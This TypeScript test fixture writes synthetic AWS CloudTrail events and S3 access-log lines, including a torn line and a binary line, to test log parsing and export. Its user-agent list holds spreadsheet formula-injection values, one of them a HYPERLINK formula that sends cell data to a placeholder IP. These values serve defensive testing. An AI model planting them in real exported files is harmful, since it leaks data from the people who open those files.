import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

export const recordCount = 2_500;

/** What cells hold that a careless writer of CSV or JSON would break on, or a spreadsheet run. */
export const userAgents = [
  "aws-cli/2.17",
  '=HYPERLINK("http://203.0.113.9/?"&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\tcmd",
  "\rcmd",
  'said "hi", twice\nthen left',
  "",
  "naïve ✓ \u{1f600}",
] as const;

/** The i-th event: one a second from 2026-10-01T00:00:00Z. */
export function event(index: number) {
  return {
    eventVersion: "1.08",
    userIdentity: {
      type: "IAMUser",
      principalId: "AIDAEXAMPLE",
      arn: `arn:aws:iam::111122223333:user/user${index % 7}`,
      accountId: "111122223333",
      userName: `user${index % 7}`,
    },
    eventTime: new Date(Date.UTC(2026, 9, 1) + index * 1000).toISOString().replace(".000", ""),
    eventSource: "s3.amazonaws.com",
    eventName: index % 5 === 0 ? "DeleteObject" : "GetObject",
    awsRegion: "us-east-1",
    sourceIPAddress: `192.0.2.${index % 200}`,
    userAgent: userAgents[index % userAgents.length],
    requestParameters: { bucketName: "ledger", key: `k/${index}` },
    responseElements: null,
    requestID: `REQ${index}`,
    eventID: `00000000-0000-4000-8000-${String(index).padStart(12, "0")}`,
    readOnly: index % 5 !== 0,
    eventType: "AwsApiCall",
    managementEvent: false,
    recipientAccountId: "111122223333",
    eventCategory: "Data",
  };
}

/** An access-log line with every field up to the TLS version. */
const goodLine =
  '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be ledger [01/Oct/2026:00:10:00 +0000] 192.0.2.3 arn:aws:iam::111122223333:user/user1 3E57427F3EXAMPLE REST.GET.OBJECT k/1 "GET /ledger/k/1 HTTP/1.1" 200 - 113 113 7 5 "-" "aws-cli/2.17" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader ledger.s3.us-east-1.amazonaws.com TLSv1.2';

export const tornLine = "79a59df900b949e55d96a1e698fb ledger [01/Oct/2026:00:1";
export const binaryLine = Buffer.from([0x2f, 0xff, 0xfe, 0x00, 0x2f, 0x20, 0x22]);

/** Writes the input files below a folder, as AWS lays them out. */
export function writeInput(folder: string): void {
  const trail = join(folder, "AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/01");
  mkdirSync(trail, { recursive: true });
  const Records = Array.from({ length: recordCount }, (_, index) => event(index));
  writeFileSync(
    join(trail, "111122223333_CloudTrail_us-east-1_20261001T0000Z_AbCdEfGhIjKlMnOp.json"),
    JSON.stringify({ Records }),
  );
  const access = join(folder, "access");
  mkdirSync(access, { recursive: true });
  const newline = Buffer.from("\n");
  const lines = [Buffer.from(goodLine), newline, Buffer.from(tornLine), newline, binaryLine, newline];
  writeFileSync(join(access, "2026-10-01-00-15-00-0123456789ABCDEF"), Buffer.concat(lines));
}
